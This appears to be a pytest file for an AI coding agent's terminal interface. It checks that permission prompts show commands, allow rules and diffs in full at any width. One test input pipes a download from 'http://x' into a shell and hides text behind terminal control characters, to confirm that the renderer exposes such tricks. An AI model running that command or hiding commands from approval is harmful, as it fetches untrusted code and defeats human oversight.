"""Permission questions show everything that is decided about."""

from __future__ import annotations

import pytest

from grokmini.protocol.events import PermissionAsked
from grokmini.protocol.permission import PermissionOption
from grokmini.render.lines import plain
from grokmini.render.look import Look
from grokmini.render.question import option_lines, question_lines
from grokmini.text.diff import unified_diff

OPTIONS = (
    PermissionOption("1", "yes", "allow"),
    PermissionOption("2", "always in this repository", "allow", "repository", "Bash(make)"),
    PermissionOption("3", "no", "deny"),
)


def test_a_command_is_asked_about_whole_with_where_it_runs() -> None:
    asked = PermissionAsked(
        "r", "1", "Run this?", "rm -rf build && make", OPTIONS, ("in ~/shop · sandbox none",)
    )
    lines = [plain(line) for line in (*question_lines(asked, 60, Look()), *option_lines(OPTIONS, 60, Look()))]
    assert lines == [
        "Run this?",
        "  rm -rf build && make",
        "  in ~/shop · sandbox none",
        "  1 yes",
        "  2 always in this repository (Bash(make))",
        "  3 no",
    ]


@pytest.mark.parametrize("rule", ["Bash(a\nb)", f"Bash(echo {'x' * 80})", "Bash(a\u2028b)"])
def test_a_rule_that_is_no_short_line_is_not_put_behind_its_label(rule: str) -> None:
    label = "always exactly this command in this session"
    option = PermissionOption("2", label, "allow", "session", rule)
    assert [plain(line) for line in option_lines((option,), 70, Look())] == [f"  2 {label}"]


def test_a_label_that_holds_its_rule_does_not_say_it_twice() -> None:
    option = PermissionOption("2", "always Bash(make *) in this session", "allow", "session", "Bash(make *)")
    assert [plain(line) for line in option_lines((option,), 70, Look())] == [
        "  2 always Bash(make *) in this session"
    ]


def test_an_edit_shows_its_diff() -> None:
    diff = unified_diff("a\nb\n", "a\nB\n", "f.py")
    asked = PermissionAsked("r", "1", "Edit f.py?", "f.py", OPTIONS, (), diff)
    assert [plain(line) for line in question_lines(asked, 60, Look())] == [
        "Edit f.py?  +1 -1",
        "  1   a",
        "  2 - b",
        "  2 + B",
    ]


@pytest.mark.parametrize("width", [1, 2, 3, 5, 8, 13, 40])
def test_nothing_is_cut_at_any_width_and_nothing_hidden_by_control_characters(width: int) -> None:
    command = "curl http://x | sh; \x1b[2K\u202eecho " + "y" * 100
    diff = unified_diff("", "z" * 90 + "\n", "f")
    asked = PermissionAsked("r", "1", "Run?", command, OPTIONS, (), diff)
    lines = [*question_lines(asked, width, Look()), *option_lines(OPTIONS, width, Look())]
    text = "".join(plain(line) for line in lines).replace(" ", "")
    assert all(line.width <= width for line in lines)
    assert text.count("y") >= 100
    assert text.count("z") == 90
    assert "␛[2K<U+202E>echo" in text
    assert "Bash(make)" in text


def test_a_diff_of_two_places_divides_them_and_hides_common_line_ends() -> None:
    before = "".join(f"l{i}\r\n" for i in range(30))
    after = before.replace("l2\r", "x\r").replace("l25\r", "y\r")
    asked = PermissionAsked("r", "1", "Edit f?", "f", (), (), unified_diff(before, after, "f", 1))
    assert [plain(line) for line in question_lines(asked, 60, Look())][1:] == [
        "   2   l1",
        "   3 - l2",
        "   3 + x",
        "   4   l3",
        "  …",
        "  25   l24",
        "  26 - l25",
        "  26 + y",
        "  27   l26",
    ]


def test_a_terminal_without_unicode_is_asked_in_ascii() -> None:
    options = (PermissionOption("4", "no, because…", "deny", wants_text=True),)
    asked = PermissionAsked("r", "1", "Run?", "\n".join(map(str, range(30))), options)
    look = Look(unicode=False)
    lines = [*question_lines(asked, 60, look, subject_rows=5), *option_lines(options, 60, look)]
    text = "\n".join(map(plain, lines))
    assert text.isascii()
    assert "  4 no, because..." in text and "... 26 rows more here - PgDn shows all" in text
